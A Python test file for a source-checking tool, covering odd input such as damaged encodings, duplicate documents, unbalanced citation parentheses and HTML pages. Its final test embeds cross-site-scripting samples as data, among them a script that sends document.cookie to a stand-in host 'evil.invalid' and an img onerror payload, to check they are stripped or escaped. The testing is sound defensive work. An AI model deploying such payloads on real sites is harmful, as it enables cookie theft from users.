"""Input that is odd or hostile but usable: it is read, what was changed is said, and nothing runs or leaks.
(Input that must be refused is the catalogue in tests/test_bad_input.py.)"""

from __future__ import annotations

import datetime as dt

import pytest
from conftest import EXAMPLE, SMALL_SOURCE, rows

from sourcecheck.cli import main

pytestmark = pytest.mark.model   # loads a model or runs the pipeline: not in `make check`

FRONT = "---\noutlet: TASS\npublished: 2012-06-18\n---\n"


def test_utf8_with_damaged_bytes_is_read_and_the_replacement_is_said(db, tmp_path, capsys):
    path = tmp_path / "mixed.md"
    path.write_bytes((FRONT + "The “Arctic” convoy left Murmansk. ").encode() + b"Caf\xe9 owners cheered.\n")
    assert main(["--db", str(db), "sources", "add", str(path)]) == 0
    assert capsys.readouterr().err == (f"sourcecheck: warning: {path}: 1 byte not UTF-8 replaced with U+FFFD in 1 "
                                       "place (first: byte 0xe9 at offset 85, line 5)\n")
    assert rows(db, "SELECT text FROM passages ORDER BY passage_index") == [
        ("The “Arctic” convoy left Murmansk.",), ("Caf\ufffd owners cheered.",)]


def test_utf16_with_a_byte_order_mark_is_read(db, tmp_path, capsys):
    path = tmp_path / "notepad.md"
    path.write_bytes(b"\xff\xfe" + (FRONT + "Учения прошли в Таджикистане.\n").encode("utf-16-le"))
    assert main(["--db", str(db), "sources", "add", str(path)]) == 0
    assert capsys.readouterr().err == ""
    assert rows(db, "SELECT text FROM passages") == [("Учения прошли в Таджикистане.",)]


def test_duplicate_documents_under_different_names_are_stored_once(db, tmp_path, capsys):
    first, copy = tmp_path / "kz.md", tmp_path / "kz-copy.md"
    first.write_text(SMALL_SOURCE)
    copy.write_text(SMALL_SOURCE.replace("title: Peace Mission 2012", "title: Copy")
                    .replace("\n\nAbout", "\n\n  About"))
    assert main(["--db", str(db), "sources", "add", str(first), str(copy)]) == 0
    out, err = capsys.readouterr()
    assert err == (f"sourcecheck: warning: {copy.resolve()}: the same document as {first.resolve()} (outlet, date, "
                   "language and text); not stored twice\n")
    assert "1 duplicate not stored twice" in out
    assert rows(db, "SELECT path FROM sources") == [(str(first.resolve()),)]
    other = tmp_path / "later" / "kz.md"   # a later batch, against what is stored
    other.parent.mkdir()
    other.write_text(SMALL_SOURCE)
    assert main(["--db", str(db), "sources", "add", str(other)]) == 0
    assert f"{other.resolve()}: the same document as {first.resolve()}" in capsys.readouterr().err
    assert rows(db, "SELECT count(*) FROM sources") == [(1,)]
    copy.write_text(SMALL_SOURCE.replace("1,300", "1,400"))   # no longer a copy: a document of its own
    assert main(["--db", str(db), "sources", "add", str(first), str(copy)]) == 0
    assert capsys.readouterr().err == ""
    assert rows(db, "SELECT count(*) FROM sources WHERE retired_at IS NULL") == [(2,)]


def test_thousands_of_files_in_nested_folders(db, tmp_path, capsys):
    feed = tmp_path / "feed"
    for i in range(3_000):
        folder = feed / f"{i // 300:02d}"
        folder.mkdir(parents=True, exist_ok=True)
        # one sentence, on 3,000 different days and outlets: 3,000 documents, one vector
        day = dt.date(2000, 1, 1) + dt.timedelta(days=i)
        (folder / f"{i:05d}.md").write_text(f"---\noutlet: Outlet {i % 60}\npublished: {day}\n---\n"
                                            "The convoy left Murmansk.\n")
    assert main(["--db", str(db), "sources", "add", str(feed)]) == 0
    assert "3000 documents from 3000 files; 3000 stored" in capsys.readouterr().out
    assert rows(db, "SELECT count(*), count(DISTINCT outlet) FROM sources") == [(3000, 60)]


def _verify(db, tmp_path, body: str, capsys):
    assert main(["--db", str(db), "sources", "add", str(EXAMPLE / "sources")]) == 0
    article = tmp_path / "article.md"
    article.write_text("---\ntitle: Odd\npublished: 2012-06-20\n---\n" + body)
    capsys.readouterr()
    assert main(["--db", str(db), "verify", str(article)]) == 0
    return capsys.readouterr()


def test_article_without_citations_is_checked_against_the_whole_store(db, tmp_path, capsys):
    _verify(db, tmp_path, "About 1,300 servicemen took part in Peace Mission 2012. The drill ended on June 14.\n",
            capsys)
    assert rows(db, "SELECT DISTINCT assigned_by FROM claims") == [("none",)]
    assert rows(db, "SELECT count(*) FROM claim_status WHERE status = 'supported'") [0][0] >= 1


def test_citation_of_an_outlet_not_in_the_registry_is_kept_under_its_name(db, tmp_path, capsys):
    _verify(db, tmp_path,
            "About 1,300 servicemen took part in Peace Mission 2012 (Dushanbe Evening Herald, June 18).\n", capsys)
    assert rows(db, "SELECT DISTINCT cited_outlets FROM claims") == [(["Dushanbe Evening Herald"],)]
    assert rows(db, "SELECT registered FROM outlets WHERE outlet = 'Dushanbe Evening Herald'") == [(False,)]


def test_unbalanced_parentheses_do_not_break_claims_or_spans(db, tmp_path, capsys):
    _verify(db, tmp_path, "About 1,300 servicemen took part (Krasnaya Zvezda, June 18.\n\n"
                          "The drill ended on June 14) (Interfax, June 18)).\n\n((The summit met in Beijing.\n", capsys)
    spans = rows(db, "SELECT c.span_start, c.span_end, length(s.text) "
                     "FROM claims c JOIN sentences s USING (sentence_id)")
    assert spans and all(0 <= a < b <= n for a, b, n in spans)
    assert rows(db, "SELECT count(*) FROM claim_status") == [(len(spans),)]


def test_html_scripts_and_styles_never_reach_claims_or_the_report(db, tmp_path, capsys):
    assert main(["--db", str(db), "sources", "add", str(EXAMPLE / "sources")]) == 0
    page = tmp_path / "page.html"
    page.write_text("<html><head><title>Drill</title><style>body{background:url(javascript:alert(1))}</style>"
                    "<script>fetch('https://evil.invalid/?'+document.cookie)</script></head><body>"
                    "<p onclick=\"alert(2)\">About 1,300 servicemen took part in Peace Mission 2012 "
                    "(Krasnaya Zvezda, June 18).<script>alert(3)</script></p>"
                    "<p>&lt;img src=x onerror=alert(4)&gt; was written in the page as text.</p></body></html>")
    assert main(["--db", str(db), "verify", str(page)]) == 0
    text = " ".join(r[0] for r in rows(db, "SELECT text FROM sentences"))
    assert "alert(1)" not in text and "evil.invalid" not in text and "alert(3)" not in text
    assert "<img src=x onerror=alert(4)> was written" in text   # text that looks like HTML stays text
    report = tmp_path / "report.html"
    assert main(["--db", str(db), "report", "--out", str(report)]) == 0
    html = report.read_text()
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(4)&gt;" in html
